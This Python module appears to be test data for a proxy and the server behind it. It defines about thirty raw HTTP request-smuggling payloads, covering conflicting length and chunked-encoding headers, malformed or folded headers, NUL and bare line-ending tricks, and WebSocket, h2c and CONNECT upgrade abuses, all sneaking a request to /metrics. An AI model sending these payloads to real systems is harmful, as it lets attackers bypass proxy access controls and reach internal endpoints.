"""Requests inside requests, and what else has ever been understood differently by a proxy and the server behind it."""

_HEALTH, _13 = b"GET /health HTTP/1.1", b"Sec-WebSocket-Version: 13"


def _request(first: bytes, *headers: bytes) -> bytes:
    return b"\r\n".join([first, b"Host: localhost", *headers, b"", b""])


SMUGGLED = _request(b"GET /metrics HTTP/1.1", b"X-Forwarded-For: 192.0.2.9")
"""What the proxy would not let through by itself."""
_BYTES = len(SMUGGLED)


def _post(*headers: bytes, body: bytes) -> bytes:
    return _request(b"POST /api/tables HTTP/1.1", b"Content-Type: application/json", *headers) + body


_LONG = b"Content-Length: %d" % (_BYTES + 5)
_CHUNKED = b"Transfer-Encoding: chunked"
_ENDED = b"0\r\n\r\n" + SMUGGLED
_KEY = b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="


def _upgrade(*headers: bytes) -> bytes:
    return _request(b"GET /api/socket HTTP/1.1", b"Connection: Upgrade", b"Upgrade: websocket", _KEY, *headers)


SMUGGLING: dict[str, bytes] = {
    "length and chunks": _post(_LONG, _CHUNKED, body=_ENDED),
    "chunks and length": _post(_CHUNKED, _LONG, body=_ENDED),
    "short length and chunks": _post(
        b"Content-Length: 4", _CHUNKED, body=b"%x\r\n%s\r\n0\r\n\r\n" % (_BYTES, SMUGGLED)
    ),
    "two lengths": _post(b"Content-Length: 0", b"Content-Length: %d" % _BYTES, body=SMUGGLED),
    "two lengths the other way": _post(b"Content-Length: %d" % _BYTES, b"Content-Length: 0", body=SMUGGLED),
    "lengths in a list": _post(b"Content-Length: %d, 0" % _BYTES, body=SMUGGLED),
    "a signed length": _post(b"Content-Length: +%d" % _BYTES, body=SMUGGLED),
    "a folded header": _post(_LONG, b"X: y\r\n Transfer-Encoding: chunked", body=_ENDED),
    "folded chunks": _post(_LONG, b"Transfer-Encoding:\r\n chunked", body=_ENDED),
    "a space before the colon": _post(_LONG, b"Transfer-Encoding : chunked", body=_ENDED),
    "a tab after the colon": _post(_LONG, b"Transfer-Encoding:\tchunked", body=_ENDED),
    "other chunks": _post(_LONG, b"Transfer-Encoding: xchunked", body=_ENDED),
    "two encodings": _post(_LONG, b"Transfer-Encoding: chunked, identity", body=_ENDED),
    "encodings in two lines": _post(_LONG, b"Transfer-Encoding: identity", _CHUNKED, body=_ENDED),
    "a bare line feed": _post(_LONG, b"X: y\nTransfer-Encoding: chunked", body=_ENDED),
    "a bare carriage return": _post(_LONG, b"X: y\rTransfer-Encoding: chunked", body=_ENDED),
    "a NUL in a value": _post(_LONG, b"X: y\0Transfer-Encoding: chunked", body=_ENDED),
    "a NUL in a name": _post(_LONG, b"Transfer-Encoding\0: chunked", body=_ENDED),
    "a chunk that lies": _post(_CHUNKED, body=b"1;\n%s\r\n0\r\n\r\n" % SMUGGLED),
    "a huge chunk": _post(_CHUNKED, body=b"ffffffffffffffff1\r\n%s0\r\n\r\n" % SMUGGLED),
    "a body of a GET": _request(_HEALTH, _LONG) + b"xxxxx" + SMUGGLED,
    "a GET before an upgrade": _request(_HEALTH) + _upgrade(_13) + SMUGGLED,
    "an upgrade that is refused": _upgrade(b"Sec-WebSocket-Version: 777") + SMUGGLED,
    "an upgrade of another site": _upgrade(_13, b"Origin: https://evil.example") + SMUGGLED,
    "an upgrade with a body": _upgrade(_13, b"Content-Length: %d" % _BYTES) + SMUGGLED,
    "an upgrade elsewhere": _upgrade(_13).replace(b"/api/socket", b"/health") + SMUGGLED,
    "h2c": _post(b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
                 b"Content-Length: %d" % _BYTES, body=SMUGGLED),
    "h2c at the socket": _upgrade(_13).replace(b"websocket", b"h2c") + b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SMUGGLED,
    "CONNECT": _request(b"CONNECT localhost:80 HTTP/1.1") + SMUGGLED,
    "an address of another host": _request(b"GET http://127.0.0.1/metrics HTTP/1.1") + SMUGGLED,
    "the first version": _request(b"POST /api/tables HTTP/1.0", _CHUNKED) + _ENDED,
}  # fmt: skip
